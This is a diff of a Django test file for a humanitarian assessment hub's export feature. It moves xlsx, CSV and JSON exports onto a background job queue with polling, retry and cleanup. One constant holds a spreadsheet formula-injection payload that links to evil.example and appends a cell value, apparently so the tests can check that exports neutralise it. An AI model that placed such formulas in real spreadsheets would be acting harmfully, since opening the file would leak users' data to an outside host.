@@ -1,5 +1,6 @@
 """Exports of a whole cycle: xlsx, CSV (zip) and JSON read back, HXL row when asked, labels in
-the chosen language, cells safe from formula injection, who may export, background jobs."""
+the chosen language, cells safe from formula injection, who may export, and every export a
+job of the task queue (its progress, its link, its failure and retry)."""
 
 import csv
 import datetime as dt
@@ -11,11 +12,13 @@ import openpyxl
 import pytest
 from django.core.management import call_command
 from django.urls import reverse
+from django.utils import timezone
 
 from gcmhub.assessments.models import Assignment, Consultation, Input, Need
+from gcmhub.core.models import JobStatus
 from gcmhub.core.workflow import State
-from gcmhub.exports import kinds, services
-from gcmhub.exports.models import ExportJob, JobStatus
+from gcmhub.exports import build, kinds, services
+from gcmhub.exports.models import ExportJob
 from gcmhub.framework.models import Objective
 from gcmhub.priorities.models import Decision
 from gcmhub.tests import factories
@@ -24,12 +27,6 @@ pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 KIND_KEYS = [k.key for k in kinds.KINDS]
-
-
-@pytest.fixture(autouse=True)
-def exports_settings(settings, tmp_path):
-    settings.EXPORTS_RUN_INLINE = True
-    settings.MEDIA_ROOT = tmp_path
 
 
 @pytest.fixture
@@ -66,7 +63,7 @@ def records(cycle, org_a, org_b):
 
 def _build(cycle, fmt, **options):
     options = {"language": "en", "hxl": False, **options}
-    return services.build_export(cycle, fmt=fmt, **options)
+    return build.build_export(cycle, fmt=fmt, **options)
 
 
 def _sheet_rows(ws) -> list[list]:
@@ -231,40 +228,50 @@ def test_an_export_takes_the_same_number_of_queries_whatever_the_data(
         _build(cycle, "xlsx")
 
 
-def test_a_small_export_that_fails_gets_a_message_not_a_500(
-    client, monkeypatch, cycle, coordinator
-):
-    def broken(*args, **kwargs):
-        raise RuntimeError("disk full")
-
-    monkeypatch.setattr(services, "build_export", broken)
-    client.force_login(coordinator)
-    response = client.post(url(cycle), {"format": "xlsx", "language": "en"})
-    assert response.status_code == 200
-    assert "The export could not be made. Try again later." in response.content.decode()
-
-
 def test_unknown_format_or_language_is_refused(cycle):
     with pytest.raises(ValueError):
-        services.build_export(cycle, fmt="pdf", language="en", hxl=False)
+        build.build_export(cycle, fmt="pdf", language="en", hxl=False)
     with pytest.raises(ValueError):
-        services.build_export(cycle, fmt="xlsx", language="fr", hxl=False)
+        build.build_export(cycle, fmt="xlsx", language="fr", hxl=False)
 
 
 # The page ---------------------------------------------------------------------------------
 
 
-def test_coordinator_downloads_a_small_export_at_once(client, cycle, records, coordinator):
+def _export(client, cycle, run_tasks, data) -> ExportJob:
+    """Ask for an export on the page, let a worker make it; the job."""
+    response = client.post(url(cycle), data)
+    assert response.status_code == 302
+    assert run_tasks() == 1
+    return ExportJob.objects.get()
+
+
+def test_every_export_is_a_job_and_its_link_appears_once_made(
+    client, cycle, records, coordinator, run_tasks
+):
     client.force_login(coordinator)
-    page = client.get(url(cycle))
-    assert page.status_code == 200
-    assert 'name="format"' in page.content.decode() and 'name="hxl"' in page.content.decode()
+    page = client.get(url(cycle)).content.decode()
+    assert 'name="format"' in page and 'name="hxl"' in page
     response = client.post(url(cycle), {"format": "csv", "language": "tr", "hxl": "on"})
-    assert response.status_code == 200
-    assert response["Content-Type"] == "application/zip"
-    assert 'filename="gcmhub-alpha-' in response["Content-Disposition"]
-    assert _csv_files(response.content)["inputs"][1][0] == "#meta+id"
-    assert not ExportJob.objects.exists()
+    assert response.status_code == 302  # nothing is made in the request
+    job = ExportJob.objects.get()
+    assert (job.status, job.requested_by) == (JobStatus.QUEUED, coordinator)
+    page = client.get(url(cycle)).content.decode()
+    assert "Waiting for a worker" in page and 'hx-trigger="every 1s"' in page
+    assert run_tasks() == 1
+    job.refresh_from_db()
+    assert (job.status, job.progress, job.attempts) == (JobStatus.DONE, 100, 1)
+    assert job.file.name.startswith(f"exports/{cycle.pk}/") and job.finished_at
+    fragment = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
+    html = fragment.content.decode()
+    download = url(cycle, "export-download", job_pk=job.pk)
+    assert "hx-trigger" not in html  # finished: polling stops
+    assert download in html and f"Download {job.filename}" in html
+    assert job.filename.startswith("gcmhub-alpha-") and job.filename.endswith("-tr-csv.zip")
+    file = client.get(download)
+    assert file["Content-Type"] == "application/zip"
+    assert f'filename="{job.filename}"' in file["Content-Disposition"]
+    assert _csv_files(b"".join(file.streaming_content))["inputs"][1][0] == "#meta+id"
 
 
 @pytest.mark.parametrize(
@@ -298,22 +305,12 @@ def test_the_cycle_home_links_to_the_export_page_for_coordinators(
 # Background jobs --------------------------------------------------------------------------
 
 
-def test_a_large_export_runs_as_a_job_and_is_kept_for_download(
-    client, settings, cycle, records, coordinator
-):
-    settings.EXPORTS_INLINE_LIMIT = 1  # any cycle is "large"
+def test_an_xlsx_export_is_kept_for_download(client, cycle, records, coordinator, run_tasks):
     client.force_login(coordinator)
-    response = client.post(url(cycle), {"format": "xlsx", "language": "en", "hxl": "on"})
-    assert response.status_code == 302
-    job = ExportJob.objects.get()
-    assert (job.status, job.progress, job.requested_by) == (JobStatus.DONE, 100, coordinator)
-    assert job.file.name.startswith(f"exports/{cycle.pk}/") and job.finished_at
+    job = _export(client, cycle, run_tasks, {"format": "xlsx", "language": "en", "hxl": "on"})
     page = client.get(url(cycle)).content.decode()
     download = url(cycle, "export-download", job_pk=job.pk)
     assert download in page
-    fragment = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
-    assert "hx-trigger" not in fragment.content.decode()  # finished: polling stops
-    assert download in fragment.content.decode()
     file = client.get(download)
     assert file.status_code == 200
     assert file["Content-Type"].startswith("application/vnd.openxmlformats")
@@ -330,6 +327,8 @@ def test_a_job_being_made_polls_with_a_labelled_progress_bar(client, cycle, coor
         language="en",
         progress=40,
         status=JobStatus.RUNNING,
+        attempts=1,
+        heartbeat_at=timezone.now(),
     )
     client.force_login(coordinator)
     fragment = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
@@ -341,48 +340,76 @@ def test_a_job_being_made_polls_with_a_labelled_progress_bar(client, cycle, coor
     assert client.get(url(cycle, "export-job", job_pk=job.pk)).status_code == 302
 
 
-def test_a_failing_job_records_why_and_the_page_shows_it(
-    client, settings, monkeypatch, cycle, records, coordinator
+def test_a_failing_job_records_why_and_can_be_made_again(
+    client, monkeypatch, cycle, records, coordinator, run_tasks
 ):
-    settings.EXPORTS_INLINE_LIMIT = 1
+    real = build.build_export
 
     def broken(*args, **kwargs):
         raise RuntimeError("disk full")
 
-    monkeypatch.setattr(services, "build_export", broken)
+    monkeypatch.setattr(build, "build_export", broken)
     client.force_login(coordinator)
-    response = client.post(url(cycle), {"format": "xlsx", "language": "en"})
-    assert response.status_code == 302
-    job = ExportJob.objects.get()
+    job = _export(client, cycle, run_tasks, {"format": "xlsx", "language": "en"})
     assert job.status == JobStatus.FAILED and not job.file
-    assert "The export could not be made (RuntimeError: disk full)" in job.error
+    assert "(RuntimeError: disk full)" in job.error
     page = client.get(url(cycle)).content.decode()
-    assert "disk full" in page
+    retry = url(cycle, "export-retry", job_pk=job.pk)
+    assert "disk full" in page and retry in page and "Try again" in page
     assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 404
 
-
-def test_without_the_inline_setting_the_job_starts_after_the_commit(
-    settings, cycle, coordinator, django_capture_on_commit_callbacks
-):
-    settings.EXPORTS_RUN_INLINE = False
-    with django_capture_on_commit_callbacks(execute=False) as callbacks:
-        job = services.export_start(
-            cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False
-        )
-    assert len(callbacks) == 1
-    assert job.status == JobStatus.QUEUED
+    monkeypatch.setattr(build, "build_export", real)
+    row = client.post(retry, HTTP_HX_REQUEST="true").content.decode()
+    assert 'hx-trigger="every 1s"' in row and "Waiting for a worker" in row
+    assert run_tasks() == 1
+    job.refresh_from_db()
+    assert (job.status, job.error) == (JobStatus.DONE, "")
+    assert client.get(url(cycle, "export-download", job_pk=job.pk)).status_code == 200
 
 
-def test_old_jobs_can_be_deleted_with_their_file(client, settings, cycle, records, coordinator):
-    settings.EXPORTS_INLINE_LIMIT = 1
+def test_only_a_failed_export_can_be_made_again(client, cycle, coordinator, run_tasks):
     client.force_login(coordinator)
-    client.post(url(cycle), {"format": "json", "language": "en"})
-    job = ExportJob.objects.get()
+    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
+    response = client.post(url(cycle, "export-retry", job_pk=job.pk), follow=True)
+    assert "Only an export that failed can be made again." in response.content.decode()
+    assert run_tasks() == 1  # the job was queued once
+
+
+def test_an_export_whose_worker_died_is_queued_again_when_the_page_looks_at_it(
+    client, settings, cycle, coordinator, run_tasks
+):
+    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
+    long_ago = timezone.now() - dt.timedelta(seconds=settings.JOB_TIMEOUT_SECONDS + 1)
+    # A worker took it and died: running, its heartbeat silent.
+    ExportJob.objects.filter(pk=job.pk).update(
+        status=JobStatus.RUNNING, attempts=1, heartbeat_at=long_ago, progress=40
+    )
+    client.force_login(coordinator)
+    row = client.get(url(cycle, "export-job", job_pk=job.pk), HTTP_HX_REQUEST="true")
+    job.refresh_from_db()
+    assert job.status == JobStatus.QUEUED
+    assert "Waiting for a worker" in row.content.decode()
+    assert run_tasks() >= 1
+    job.refresh_from_db()
+    assert (job.status, job.attempts) == (JobStatus.DONE, 2)
+
+
+def test_old_jobs_can_be_deleted_with_their_file(client, cycle, records, coordinator, run_tasks):
+    client.force_login(coordinator)
+    job = _export(client, cycle, run_tasks, {"format": "json", "language": "en"})
     storage, name = job.file.storage, job.file.name
     assert storage.exists(name)
     response = client.post(url(cycle, "export-delete", job_pk=job.pk))
     assert response.status_code == 302
     assert not ExportJob.objects.exists() and not storage.exists(name)
+
+
+def test_a_job_still_waiting_cannot_be_deleted(client, cycle, coordinator):
+    job = services.export_start(cycle=cycle, by=coordinator, fmt="json", language="en", hxl=False)
+    client.force_login(coordinator)
+    response = client.post(url(cycle, "export-delete", job_pk=job.pk), follow=True)
+    assert "An export being made cannot be deleted" in response.content.decode()
+    assert ExportJob.objects.filter(pk=job.pk).exists()
 
 
 def test_jobs_of_another_network_are_not_found(client, cycle, other_cycle, coordinator):
@@ -394,15 +421,15 @@ def test_jobs_of_another_network_are_not_found(client, cycle, other_cycle, coord
 # The case ---------------------------------------------------------------------------------
 
 
-def test_the_demo_cycle_exports_every_kind_it_holds(client):
+def test_the_demo_cycle_exports_every_kind_it_holds(client, run_tasks):
     from gcmhub.core.models import Cycle, User
 
     call_command("load_demo", stdout=io.StringIO())
     cycle = Cycle.objects.select_related("network").get(title="GCM Needs Assessment 2021")
     client.force_login(User.objects.get(username="coordinator"))
-    response = client.post(url(cycle), {"format": "json", "language": "en"})
-    assert response.status_code == 200
-    document = json.loads(response.content)
+    job = _export(client, cycle, run_tasks, {"format": "json", "language": "en"})
+    response = client.get(url(cycle, "export-download", job_pk=job.pk))
+    document = json.loads(b"".join(response.streaming_content))
     counts = {key: len(kind["records"]) for key, kind in document["kinds"].items()}
     for key in [
         "organisations",
